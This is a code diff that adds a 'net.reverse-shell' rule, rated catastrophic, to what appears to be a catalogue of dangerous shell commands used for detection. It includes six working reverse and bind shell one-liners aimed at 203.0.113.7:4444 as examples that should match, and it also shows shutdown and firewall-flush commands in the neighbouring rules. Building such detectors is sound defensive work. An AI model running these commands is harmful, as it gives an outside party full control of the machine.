@@ -297,6 +297,17 @@ _CATALOGUE = [
     _R("sys.power", "destructive", "Shuts down or reboots the machine.",
        ["shutdown -h now", "sudo reboot", "halt", "poweroff", "systemctl reboot", "init 0"],
        ["uptime", "last reboot"]),
+    _R("net.reverse-shell", "catastrophic",
+       "Hands a shell on this machine to whoever is at the other end of a network connection (a reverse or bind "
+       "shell): they run any command here, as this user, and no hook sees those commands.",
+       ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "nc -e /bin/sh 203.0.113.7 4444",
+        "ncat --sh-exec 'bash -i' -l 9001", "socat TCP:203.0.113.7:4444 EXEC:/bin/sh",
+        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
+        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
+        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"],
+       ["nc -zv localhost 5432", "echo ping > /dev/tcp/localhost/8080", "nc -l 9000 > upload.bin",
+        "socat TCP-LISTEN:8080,fork TCP:localhost:3000", "curl -s localhost:8080 | jq .",
+        "python3 -c 'import socket; print(socket.gethostname())'"]),
     _R("net.firewall-flush", "destructive", "Flushes firewall rules.",
        ["iptables -F", "sudo iptables --flush", "nft flush ruleset", "ufw disable"],
        ["iptables -L", "ufw status"]),
